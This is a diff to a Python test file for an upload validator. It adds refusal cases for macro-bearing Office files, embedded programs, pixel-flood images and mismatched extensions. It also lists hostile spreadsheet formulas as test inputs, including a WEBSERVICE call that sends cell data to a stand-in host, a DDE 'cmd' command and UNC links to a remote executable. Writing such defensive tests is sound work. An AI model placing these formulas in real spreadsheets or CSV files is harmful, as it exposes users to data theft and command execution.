@@ -91,6 +91,19 @@ _MACRO_TYPE = samples.DOCX.replace("vnd.openxmlformats-officedocument.wordproces
     "document.main", "document.macroEnabled.main"
 )
 
+# A record BOUNDSHEET of an old workbook whose sheet holds macros.
+_MACRO_SHEET = b"\x85\0\x0e\0" + b"\x10\x20\x30\0" + b"\0\x01" + b"\x06\0Macro1"
+REACHING_OUT = [
+    'WEBSERVICE("http://example.invalid/?"&amp;A1)',
+    '_xlfn.webservice ("http://example.invalid")',
+    '_xlfn.IMAGE("https://example.invalid/a.png")',
+    'RTD("prog.id",,"x")',
+    "cmd|'/c calc'!A0",
+    "MSEXCEL|'C:\\x'!''",
+    "'\\\\example.invalid\\share\\[a.xlsx]S'!A1",
+    'HYPERLINK("\\\\example.invalid\\share\\a.exe")',
+]
+
 HOSTILE: list[tuple[str, str, bytes, type[errors.FileRefused]]] = [
     ("zero bytes", "a.jpg", b"", errors.EmptyFile),
     ("larger than the limit", "a.txt", b"a" * (3 * 1024**2 + 1), errors.FileTooLarge),
@@ -110,7 +123,22 @@ HOSTILE: list[tuple[str, str, bytes, type[errors.FileRefused]]] = [
     ("xlsx named docx", "a.docx", samples.office(samples.XLSX), errors.ExtensionMismatch),
     ("no extension", "photo", samples.png(), errors.ExtensionMismatch),
     ("second extension", "a.png.exe", samples.png(), errors.TypeNotAllowed),
-    ("old Word", "a.docx", samples.old_office(), errors.OldOfficeFile),
+    ("old Word under a new name", "a.docx", samples.old_office(), errors.ExtensionMismatch),
+    ("old file of no kept kind", "a.doc", samples.old_office("__substg1.0"), errors.OldOfficeFile),
+    ("old Word with macros", "a.doc", samples.old_office("WordDocument", "_VBA_PROJECT"), errors.ContainsMacros),
+    ("old Excel with a macro sheet", "a.xls", samples.old_office("Workbook", raw=_MACRO_SHEET), errors.ContainsMacros),
+    (
+        "program in an old document",
+        "a.wps",
+        samples.old_office("WordDocument", "\x01Ole10Native"),
+        errors.ContainsActiveContent,
+    ),
+    ("old Word with a password", "a.doc", samples.old_office("EncryptedPackage"), errors.PasswordProtected),
+    ("bmp cut off", "a.bmp", samples.bmp()[:40], errors.DamagedFile),
+    ("pixel flood bmp", "a.bmp", samples.bmp(60_000, 60_000), errors.TooManyPixels),
+    ("pixel flood tiff", "a.tif", samples.tiff(60_000, 60_000), errors.TooManyPixels),
+    ("tiff without tags", "a.tiff", b"II*\0\x08\0\0\0\0\0", errors.DamagedFile),
+    ("png named heic", "a.heic", samples.png(), errors.ExtensionMismatch),
     ("Office with a password", "a.docx", samples.old_office("EncryptedPackage"), errors.PasswordProtected),
     ("pdf with a password", "a.pdf", _locked_pdf(), errors.PasswordProtected),
     ("zip with a password", "a.docx", _locked_zip(), errors.PasswordProtected),
@@ -144,6 +172,14 @@ HOSTILE: list[tuple[str, str, bytes, type[errors.FileRefused]]] = [
         "a.xlsx",
         samples.office(samples.XLSX, {"xl/externalLinks/e.xml": '<x:ddeLink ddeService="cmd"/>'}),
         errors.ContainsActiveContent,
+    ),
+    *(
+        (f"formula: {formula}", "a.xlsx", samples.workbook(formula), errors.ContainsActiveContent)
+        for formula in REACHING_OUT
+    ),
+    *(
+        (f"csv: {formula}", "a.csv", f"name,n\nx,={formula}\n".encode(), errors.ContainsActiveContent)
+        for formula in REACHING_OUT
     ),
     ("DDE in csv", "a.csv", b"name,n\nx,=cmd|'/c calc'!A0\n", errors.ContainsActiveContent),
     (
